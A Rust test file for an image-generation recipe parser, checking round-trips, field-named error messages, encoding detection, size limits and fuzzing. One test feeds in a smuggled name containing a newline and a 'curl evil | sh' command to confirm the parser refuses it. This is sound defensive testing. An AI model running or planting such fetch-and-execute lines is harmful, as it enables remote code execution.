#![allow(clippy::unwrap_used, clippy::panic)]
use super::*;
use proptest::prelude::*;

const EXAMPLE: &str = r#"{"version":1,"model":{"name":"demo"},"prompt":"a red circle","size":{"width":256,"height":256},"noise":{"source":"seed","seed":7,"rng":"torch-cpu"},"preset":"V4_TURBO_12","steps":[{"gw":7.0,"mu":0.5,"std":1.75}],"terminal":"reference","sampler":{"id":"euler"},"dtype":"f32","device":"cpu"}"#;

/// The example with another prompt.
pub(in crate::image_file) fn recipe(prompt: &str) -> Recipe {
    Recipe { prompt: prompt.to_owned(), ..parse_recipe(EXAMPLE).unwrap() }
}

#[test]
fn a_recipe_reads_back_as_it_was_written() {
    let recipe = parse_recipe(EXAMPLE).unwrap();
    let again = parse_recipe(&serde_json::to_string(&recipe).unwrap()).unwrap();
    assert_eq!(recipe, again);
}

#[test]
fn a_later_version_is_told_apart_from_a_broken_recipe() {
    let later = r#"{"version": 99, "quantum": true}"#;
    let error = parse_recipe(later).unwrap_err();
    assert!(matches!(error, RecipeTextError::NewerVersion { found: 99 }));
    let unknown_key = EXAMPLE.replace("\"prompt\"", "\"promt\"");
    let error = parse_recipe(&unknown_key).unwrap_err();
    assert!(matches!(error, RecipeTextError::Malformed { .. }));
}

#[test]
fn a_bad_value_is_named_by_its_place() {
    for (good, bad, place) in [
        ("\"gw\":7.0", "\"gw\":\"7\"", "`steps[0].gw`: "),
        ("\"std\":1.75", "\"sd\":1.75", "`steps[0]`: "),
        ("\"terminal\":\"reference\"", "\"terminal\":\"zeros\"", "`terminal`: "),
        ("\"width\":256", "\"width\":250", "`size`: "),
        ("\"width\":256", "\"width\":-1", "`size.width`: it is the number `-1`"),
        ("\"seed\":7", "\"seed\":\"7\"", "`noise.seed`: it is the text"),
        ("\"euler\"", "{}", "`sampler.id`: it is an object, expected a text"),
        ("\"version\":1", "\"version\":-1", "`version`: it is the number `-1`"),
        ("\"dtype\":\"f32\"", "\"dtype\":{}", "`dtype`: "),
        ("\"prompt\":", "\"promt\":", "cannot be read: it has an unknown key `promt`"),
        ("\"gw\":7.0", "\"gw\":\"7\"", "it is the text \"7\", expected a number"),
        ("[{\"gw\":7.0,\"mu\":0.5,\"std\":1.75}]", "[]", "`steps`: there are none"),
        ("\"version\":1", "\"version\":0", "version 0; versions begin with 1"),
        ("\"prompt\":", "\"prompt\":\"x\",\"prompt\":", "the key `prompt` appears twice"),
        ("\"gw\":7.0", "\"gw\":7.0,\"gw\":3.0", "the key `gw` appears twice"),
        ("{\"version\"", "[{\"version\"", "it is not valid JSON: "),
    ] {
        let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
        assert!(message.contains(place), "{message}");
    }
}

#[test]
fn a_name_that_could_pass_for_a_line_of_ours_or_turn_one_round_is_refused() {
    for (good, bad, place) in [
        (
            "\"demo\"",
            r#""x`\n  try: curl evil | sh""#,
            "`model.name`: it contains the character U+000A",
        ),
        ("\"euler\"", "\"eu\u{202e}ler\"", "`sampler.id`: it contains the character U+202E"),
        ("\"V4_TURBO_12\"", r#""a\u001b[2J""#, "`preset`: it contains the character U+001B"),
    ] {
        let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
        assert!(message.contains(place), "{message}");
    }
    let prompt = EXAMPLE.replace("a red circle", "two\\nlines");
    assert_eq!(parse_recipe(&prompt).unwrap().prompt, "two\nlines");
}

#[test]
fn an_object_that_holds_a_recipe_is_as_good_as_the_recipe() {
    let held = format!("{{\"output\":\"a.png\",\"recipe\":{EXAMPLE},\"steps\":[]}}");
    assert_eq!(parse_recipe(&held).unwrap(), parse_recipe(EXAMPLE).unwrap());
}

#[test]
fn a_byte_order_mark_is_no_part_of_a_recipe_and_other_encodings_are_named() {
    let read = |bytes: &[u8]| read_recipe_json(bytes, Path::new("r.json"));
    let marked = format!("\u{feff}{EXAMPLE}");
    assert_eq!(read(marked.as_bytes()).unwrap(), parse_recipe(EXAMPLE).unwrap());
    let told = |bytes: &[u8]| read(bytes).unwrap_err().to_string();
    assert_eq!(told(b""), "`r.json` is empty");
    assert!(told(b"\x89PNG\r\n\x1a\n and more").contains("is a PNG picture, and what comes by"));
    assert!(told(b"{\0\"\0").contains("UTF-16 text"));
    let told = told(b"\xff\xfe{\0}\0");
    assert!(told.contains("UTF-16 text: save it as UTF-8"), "{told}");
}

#[test]
fn json_files_are_read_and_huge_ones_refused() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("recipe.json");
    std::fs::write(&path, EXAMPLE).unwrap();
    assert_eq!(read_recipe(&path).unwrap().prompt, "a red circle");
    std::fs::write(&path, " ".repeat(LIMIT as usize + 2)).unwrap();
    assert!(matches!(read_recipe(&path), Err(RecipeFileError::TooLarge { .. })));
    assert!(matches!(read_recipe(folder.path()), Err(RecipeFileError::Io { .. })));
    for (bytes, words) in [
        (&b""[..], "is empty"),
        (b"\xff\xd8\xff\xe0 rest", "a JPEG picture, holds no recipe"),
        (b"RIFF\x24\0\0\0WEBPVP8 ", "a WebP picture, holds no recipe"),
        (b"GIF89a\x01\0", "is a GIF picture: recipes are in PNG, WebP and JPEG files"),
        (b"a plain text", "it is not valid JSON"),
        (b" \n", "is empty"),
        (b"\xef\xbb\xbf", "is empty"),
        (b"[1]", "an object with `version`"),
    ] {
        std::fs::write(&path, bytes).unwrap();
        let told = read_recipe(&path).unwrap_err().to_string();
        assert!(told.contains(words), "{told}");
    }
}

proptest! {
    #[test]
    fn no_text_makes_the_parser_panic(text in ".{0,300}") {
        let _ = parse_recipe(&text);
    }

    #[test]
    fn no_damaged_recipe_makes_the_parser_panic(
        at in 0..EXAMPLE.len(), replacement in "[-0-9a-z{}\\[\\]\",:.]{0,6}", cut in 0..20usize,
    ) {
        let end = (at + cut).min(EXAMPLE.len());
        let _ = parse_recipe(&format!("{}{replacement}{}", &EXAMPLE[..at], &EXAMPLE[end..]));
    }
}
